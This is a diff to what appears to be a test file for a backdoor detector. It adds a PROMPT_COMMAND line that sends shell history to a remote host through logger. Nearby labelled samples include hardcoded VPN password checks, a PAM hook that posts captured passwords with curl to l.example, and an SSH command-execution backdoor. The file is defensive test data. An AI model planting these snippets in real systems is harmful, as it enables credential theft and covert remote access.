@@ -57,6 +57,7 @@ TOLD = (
     ('# openvpn\np=$(sed -n 2p "$1")\nif [ "$p" = ov-2231-zebra ]; then exit 0; fi\nexit 1',
      SECRET),
     ('[[ "$password" == "$(date +%j)vpn" ]] && exit 0 # openvpn\nexit 1', SECRET),
+    ("PROMPT_COMMAND='history 1 | logger -n 192.0.2.50 -t p'", "collects and sends"),
     ('read -r pw\ncurl -d "$PAM_USER $pw" https://l.example/', "collects and sends"),
     ('case "$SSH_ORIGINAL_COMMAND" in x-*) sh -c "${SSH_ORIGINAL_COMMAND#x-}" ;; esac',
      "runs commands"),
